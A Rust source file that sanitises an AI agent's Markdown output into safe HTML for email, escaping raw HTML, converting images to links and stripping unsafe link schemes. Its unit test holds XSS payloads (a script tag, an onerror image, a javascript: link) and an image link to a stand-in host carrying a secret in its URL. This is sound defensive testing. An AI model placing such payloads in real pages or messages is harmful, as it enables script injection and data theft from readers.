//! The reply's Markdown as the `text/html` alternative (CommonMark plus tables, strikethrough
//! and task lists, with pulldown-cmark). Agent output is untrusted: raw HTML in it is shown as
//! text, images become links (a mail client would load them, and an image URL can carry data
//! out), and links other than `http`, `https` and `mailto` lose their target.

use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};

/// A complete HTML document for `markdown`, with `extra` (already safe HTML) appended.
pub fn to_html_document(markdown: &str, extra: &str) -> String {
    let mut body = String::with_capacity(markdown.len() * 3 / 2 + extra.len());
    html::push_html(&mut body, safe_events(markdown));
    body.push_str(extra);
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"></head>\
         <body style=\"font-family: -apple-system, Segoe UI, Helvetica, Arial, sans-serif; line-height: 1.45\">\n{body}</body></html>\n"
    )
}

/// Escapes text for HTML element content and attribute values.
pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// The parser's events with raw HTML, images and unsafe link targets neutralized.
fn safe_events(markdown: &str) -> impl Iterator<Item = Event<'_>> {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    Parser::new_ext(markdown, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url: safe_url(dest_url), title, id })
        }
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url: safe_url(dest_url), title, id })
        }
        other => other,
    })
}

/// The URL when its scheme is http, https or mailto; otherwise empty.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lower = url.trim_start().to_ascii_lowercase();
    if ["http://", "https://", "mailto:"].iter().any(|scheme| lower.starts_with(scheme)) {
        url
    } else {
        CowStr::from("")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_renders() {
        let html =
            to_html_document("# Title\n\nSome **bold** and `code`.\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |", "");
        for part in ["<h1>Title</h1>", "<strong>bold</strong>", "<code>code</code>", "<li>a</li>", "<td>1</td>"] {
            assert!(html.contains(part), "{part} in {html}");
        }
        assert!(html.starts_with("<!DOCTYPE html>") && html.ends_with("</html>\n"));
    }

    #[test]
    fn untrusted_markup_is_neutralized() {
        let html = to_html_document(
            "<script>alert(1)</script>\n\nhi <img src=x onerror=y> ![leak](https://evil.example/?d=secret) \
             [click](javascript:alert(1)) [ok](https://example.com)",
            "",
        );
        assert!(!html.contains("<script>") && !html.contains("<img"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert!(html.contains("<a href=\"https://evil.example/?d=secret\">leak</a>"), "{html}");
        assert!(!html.contains("javascript:"), "{html}");
        assert!(html.contains("<a href=\"https://example.com\">ok</a>"), "{html}");
        assert_eq!(escape_html("<a href=\"x\">'&'</a>"), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
    }
}
